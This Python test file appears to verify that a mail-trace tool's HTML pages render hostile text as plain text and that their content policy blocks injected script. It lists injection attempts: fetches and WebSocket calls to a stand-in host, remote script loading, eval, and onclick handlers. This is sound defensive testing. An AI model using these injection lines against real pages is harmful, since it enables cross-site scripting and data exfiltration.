"""Hostile texts in the page: shown as text, made into nothing; and a policy that would stop the rest."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from functools import partial
from pathlib import Path
from typing import Any

import anyio
import pytest

from mailtrace_mcp.answers import QueryAnswer, TraceAnswer
from mailtrace_mcp.config import Config, load
from mailtrace_mcp.questions import LogQuestion, MailQuestion, query_logs, trace_mail
from mailtrace_mcp.views.page import page
from tests.answers.found import FULL, TWO_HOPS, listed, two_hops
from tests.journeys.story import story
from tests.trace.plain import graph

from .chromium import Page
from .conftest import Show
from .hostile import HOSTILE, filled, quietly

LINES = Path(__file__).parents[2] / "fixtures" / "lines"
# Every element and every attribute that the page makes of any answer.
MADE = """
const all = [...document.querySelectorAll('*')];
return {
  elements: [...new Set(all.map(e => e.localName))],
  attributes: [...new Set(all.flatMap(e => [...e.attributes].map(a => a.name)))],
  scripts: document.scripts.length,
  styles: document.styleSheets.length,
};
"""
ELEMENTS = set(
    "html head meta title style body main noscript script h1 h2 h3 h4 p b span div section article header "
    "figure figcaption details summary dl dt dd ul ol li code button svg defs marker path rect g circle "
    "line text".split()
)
ATTRIBUTES = set(
    "lang charset http-equiv content name id type class style tabindex role aria-label open disabled width "
    "height viewBox refX refY markerWidth markerHeight markerUnits orient d marker-end x y x1 x2 y1 y2 cx "
    "cy r rx text-anchor".split()
)


def check(shown: Page) -> None:
    shown.run("for (const one of document.querySelectorAll('details')) one.open = true")
    shown.settle()
    made = shown.run(MADE)
    assert set(made["elements"]) <= ELEMENTS
    assert set(made["attributes"]) <= ATTRIBUTES
    assert (made["scripts"], made["styles"]) == (2, 1)
    assert len(shown.requests) == 1
    assert shown.complaints == []
    assert shown.run("return window.evil === undefined && ({}).evil === undefined")


@pytest.mark.parametrize("text", HOSTILE)
def test_any_text_in_any_place_of_a_trace_is_text(tab: Page, tmp_path: Path, text: str) -> None:
    answer = filled(two_hops(FULL), text)
    file = tmp_path / "page.html"
    file.write_text(quietly(page, answer))
    shown = tab.open(file)
    check(shown)
    seen = shown.run("return document.body.textContent")
    assert seen.count(json.loads(json.dumps(text)).replace("\0", "\0")) > 20


@pytest.mark.parametrize("text", HOSTILE)
def test_any_text_in_any_place_of_a_listing_is_text(tab: Page, tmp_path: Path, text: str) -> None:
    answer = filled(listed(graph(**TWO_HOPS), FULL), text)
    file = tmp_path / "page.html"
    file.write_text(quietly(page, answer))
    check(tab.open(file))


def test_the_hostile_story(show: Show, tmp_path: Path) -> None:
    told = story("queueatlas-22-hostile-fields")
    answer = told.answer(told.expected["asks"][0], tmp_path)
    shown = show(answer)
    check(shown)
    seen = shown.run("return document.body.textContent")
    texts = [one.text for trace in answer.traces for one in trace.untrusted]
    assert any("<" in one for one in texts)
    assert all(one in seen for one in texts)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Config:
    """A host whose log a real Postfix wrote while it was attacked."""
    file = tmp_path_factory.mktemp("attacked") / "config.yaml"
    log = LINES / "postfix-hostile.log"
    file.write_text(f"hosts: {{mx1: {{timezone: UTC, logs: {{files: ['{log}']}}}}}}\n")
    return load(file)


def test_a_log_of_attacks_as_a_listing(show: Show, attacked: Config) -> None:
    answer: QueryAnswer = _asked(
        query_logs, attacked, LogQuestion(host="mx1", limit=200, detail="full", **when(attacked))
    )
    assert len(answer.mails) > 10
    check(show(answer))


def test_a_log_of_attacks_as_traces(show: Show, attacked: Config) -> None:
    answer: TraceAnswer = _asked(
        trace_mail,
        attacked,
        MailQuestion(keywords=("good.test",), limit=20, detail="full", **when(attacked)),
    )
    assert len(answer.traces) > 5
    check(show(answer))


def when(attacked: Config) -> dict[str, Any]:
    """Around the log's own time: its stamps have no year, the file's age gives it."""
    age = datetime.fromtimestamp((LINES / "postfix-hostile.log").stat().st_mtime, UTC)
    year = age.year if (age.month, age.day) >= (11, 21) else age.year - 1
    return {"time": f"{year}-11-21 04:20:00", "time_range": "12h"}


def _asked(ask: Any, config: Config, question: Any) -> Any:
    return anyio.run(partial(ask, config, question, datetime.now(UTC)))


@pytest.mark.parametrize(
    "attempt",
    [
        "await fetch('http://192.0.2.1/')",
        "await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'http://192.0.2.1/i.png'; })",
        "document.body.innerHTML = '<b>x</b>'",
        "eval('1')",
        "new Function('return 1')()",
        "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = no; s.src = 'http://192.0.2.1/s.js'; document.head.append(s); })",
        "await new Promise((ok, no) => { const w = new WebSocket('ws://192.0.2.1/'); w.onopen = ok; w.onerror = no; })",
        "const s = document.createElement('script'); s.append('window.evil = 1'); document.head.append(s); if (!window.evil) throw 1",
        "const e = document.createElement('p'); e.setAttribute('onclick', 'window.evil = 1'); e.click(); if (!window.evil) throw 1",
    ],
)  # fmt: skip
def test_the_policy_stops_what_the_page_never_does(show: Show, attempt: str) -> None:
    shown = show(two_hops())
    told = shown.run(
        f"try {{ {attempt} }} catch (error) {{ return 'stopped' }} return 'went through'"
    )
    assert told == "stopped"
    assert shown.run("return window.evil === undefined")
